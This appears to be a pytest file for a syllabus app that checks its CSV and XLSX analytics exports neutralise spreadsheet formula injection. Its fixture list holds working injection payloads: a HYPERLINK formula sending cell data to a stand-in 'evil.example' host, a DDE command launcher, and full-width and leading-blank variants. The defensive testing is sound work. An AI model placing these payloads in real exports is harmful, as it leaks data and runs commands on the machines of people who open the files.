"""Attack class: spreadsheet formula injection (OWASP "CSV Injection") in every export.

The analytics reports (ANL-2) are the product's only spreadsheet exports (CSV and XLSX); their
text cells come from what people typed (item titles, departments, course names).  A text a
spreadsheet would run as a formula (``= + - @``, tab, carriage return first) is written after a
``'`` in CSV and as a quote-prefixed string cell in XLSX — never a formula."""
import csv
import io

import pytest
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           # in full width (＝ is = in NFKC; East Asian spreadsheets read it as =)
           "\uff1dHYPERLINK(\"https://evil.example/\")", "\uff20SUM(1)"]


@pytest.fixture
def hostile_list(instructor, course):
    from syllabus.lists import services

    lst = services.create_list(instructor, title="HIST101 readings", courses=[course])
    section = services.add_section(instructor, lst, title="Week 1")
    for title in HOSTILE:
        services.add_citation(instructor, lst, section, "book", {"title": title})
    services.publish_list(instructor, lst)
    return lst


def test_csv_export_neutralises_titles_that_a_spreadsheet_would_run(api, instructor, hostile_list):
    r = api(instructor).get(f"/api/v1/analytics/lists/{hostile_list.pk}/engagement", {"format": "csv"})
    assert r.status_code == 200, r.content
    cells = [cell for row in csv.reader(io.StringIO(r.content.decode(), newline="")) for cell in row]
    for title in HOSTILE:
        assert "'" + title in cells, (title, cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    import unicodedata

    assert not [c for c in cells if unicodedata.normalize("NFKC", c).lstrip()[:1] in ("=", "+", "-", "@")], cells


def test_xlsx_export_writes_those_titles_as_text_never_as_formulas(api, instructor, hostile_list):
    r = api(instructor).get(f"/api/v1/analytics/lists/{hostile_list.pk}/engagement", {"format": "xlsx"})
    assert r.status_code == 200, r.content
    book = load_workbook(io.BytesIO(r.content))
    texts = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts[cell.value] = cell
    for title in HOSTILE:
        assert title in texts, title                 # the title itself, as the reader typed it
        assert texts[title].quotePrefix, title       # and Excel keeps it text when the cell is edited


def test_numbers_stay_numbers(api, instructor, hostile_list):
    r = api(instructor).get(f"/api/v1/analytics/lists/{hostile_list.pk}/engagement", {"format": "xlsx"})
    numbers = [c.value for s in load_workbook(io.BytesIO(r.content)).worksheets
               for row in s.iter_rows(min_row=2) for c in row if isinstance(c.value, int | float)]
    assert numbers and all(c == 0 for c in numbers)


def test_a_tab_or_carriage_return_first_is_neutralised_too():
    """Titles are trimmed when saved, but a report cell may come from elsewhere (a CSV-loaded department)."""
    from syllabus.analytics import exports
    from syllabus.analytics.reports import Column, Report, Table

    report = Report("t", "T", [Table("T", [Column("name", "Name"), Column("n", "N", kind="count")],
                                     [{"name": "\t=1+1", "n": -3}, {"name": "\r@A1", "n": 2}])])
    rows = list(csv.reader(io.StringIO(exports.to_csv(report), newline="")))
    assert rows[1:] == [["'\t=1+1", "-3"], ["'\r@A1", "2"]]
    sheet = load_workbook(io.BytesIO(exports.to_xlsx(report))).active
    assert [(c.value, c.data_type) for c in sheet["A"][1:]] == [("\t=1+1", "s"), ("\r@A1", "s")]
    assert sheet["B2"].value == -3


@pytest.mark.parametrize("text", [' =HYPERLINK("https://evil.example/")', "\u00a0+1+cmd", "\u3000\uff1d1+1", "\uff0d2+3"])
def test_a_formula_after_leading_blanks_or_in_full_width_is_neutralised_too(text):
    """Titles are stripped when saved, but not every exported text is (a department, a course name
    from a file): a blank before the ``=`` does not make it safe — LibreOffice and Google Sheets trim it."""
    from syllabus.analytics.exports import neutralised

    assert neutralised(text) == "'" + text
    assert neutralised("Plain title") == "Plain title" and neutralised(3) == 3
